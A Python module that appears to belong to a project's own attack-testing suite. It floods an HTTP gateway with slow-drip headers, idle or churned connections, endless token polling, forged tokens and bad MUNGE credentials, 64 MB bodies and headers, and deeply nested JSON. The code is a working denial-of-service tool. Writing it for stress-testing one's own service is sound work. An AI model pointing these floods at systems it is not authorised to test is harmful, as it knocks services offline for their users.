"""Load the gateway with what nobody needs.

python -m contrib.attack.hands.floods flood WHAT URL SECONDS CONNECTIONS TOKENS [PATH]

    silent       hold connections that send nothing or one byte; make those that end again
    slow         the same, with a byte of a header or of a body every half second
    connect      make connections and close them at once
    ask          ask for PATH without end with the TOKENS (JSON), on all connections
    poll         ask for orders with the TOKENS, on all connections, and ask again
    unknown      send reports with tokens that nobody gave out
    credentials  ask for tokens with munge credentials that are no good
    bodies       send reports of 64 MB with the first of the TOKENS
    headers      send headers of 64 MB
    nested       send JSON that is nested 8,000 times with the first of the TOKENS

Prints "ready" when all connections have been tried once, and at the end how many connections and requests it made.
"""

from __future__ import annotations

import asyncio
import json
import re
import resource
import secrets
import time
from contextlib import suppress
from urllib.parse import urlsplit

from contrib.attack.hands import run

BLOCK = b"a" * 65536


class Flood:
    """So many connections at the same time, until the time is over."""

    def __init__(self, what: str, url: str, seconds: float, tokens: list[str], path: str) -> None:
        self.what = what
        self.host, self.port = urlsplit(url).hostname, urlsplit(url).port
        self.end = time.monotonic() + seconds
        self.tokens, self.path = tokens, path
        self.connections = self.requests = 0

    async def run(self, count: int) -> None:
        visitors = [asyncio.create_task(self._again(number)) for number in range(count)]
        await asyncio.sleep(min(2.0, count / 500))
        print("ready", flush=True)
        await asyncio.wait(visitors, timeout=max(0.0, self.end - time.monotonic()))
        for each in visitors:
            each.cancel()
        print(f"{self.connections} connections, {self.requests} requests", flush=True)

    async def _again(self, number: int) -> None:
        token = self.tokens[number % len(self.tokens)] if self.tokens else ""
        while time.monotonic() < self.end:
            with suppress(OSError, asyncio.IncompleteReadError, ValueError, TimeoutError):
                reader, writer = await asyncio.wait_for(asyncio.open_connection(self.host, self.port), 5)
                self.connections += 1
                try:
                    await self._visit(reader, writer, number % 2, token)
                finally:
                    writer.close()
            await asyncio.sleep(0)

    async def _visit(
        self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, odd: int, token: str
    ) -> None:
        match self.what:
            case "connect":
                pass
            case "silent":
                writer.write(b"G" * odd)
                await reader.read()
            case "slow":
                head = "POST /v1/tokens HTTP/1.1\r\nHost: x\r\n"
                writer.write((head + ("Content-Length: 4000\r\n\r\n" if odd else "X-Slow: ")).encode())
                while not reader.at_eof():
                    writer.write(b"a")
                    await writer.drain()
                    await asyncio.sleep(0.5)
            case "bodies" | "headers":
                body = f"Authorization: Bearer {token}\r\nContent-Length: {64 << 20}\r\n\r\n"
                head = "POST /v1/report HTTP/1.1\r\nHost: x\r\n"
                writer.write((head + (body if self.what == "bodies" else "X-Long: ")).encode())
                for _ in range(1024):
                    writer.write(BLOCK)
                    await writer.drain()
                    self.requests += 1
            case _:
                await self._ask(reader, writer, token)

    async def _ask(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, token: str) -> None:
        """Send a request again and again."""
        while time.monotonic() < self.end:
            line, shown, body = self._request(token)
            head = f"Host: x\r\nAuthorization: Bearer {shown}\r\nContent-Length: {len(body)}"
            writer.write(f"{line} HTTP/1.1\r\n{head}\r\n\r\n{body}".encode())
            answer = (await reader.readuntil(b"\r\n\r\n")).lower()
            found = re.search(rb"content-length: (\d+)", answer)
            await reader.readexactly(int(found[1]) if found else 0)
            self.requests += 1

    def _request(self, token: str) -> tuple[str, str, str]:
        """Return the first line, the token and the body of a request."""
        match self.what:
            case "ask":
                return f"GET {self.path}", token, ""
            case "poll":
                # "1": never the digest of orders, so each poll is answered at once; the next one waits.
                return "GET /v1/orders?seen=1", token, ""
            case "unknown":
                return "POST /v1/report", f"U.1.{secrets.token_urlsafe(32)}", "{}"
            case "credentials":
                return "POST /v1/tokens", "", json.dumps({"credential": f"MUNGE:{secrets.token_hex(100)}:"})
        return "POST /v1/report", token, '{"params": ' + '[{"a":' * 1500  # nested


def flood(what: str, url: str, seconds: float, count: int, tokens: list[str], path: str = "") -> None:
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    asyncio.run(Flood(what, url, seconds, tokens, path).run(count))


if __name__ == "__main__":
    run(flood)
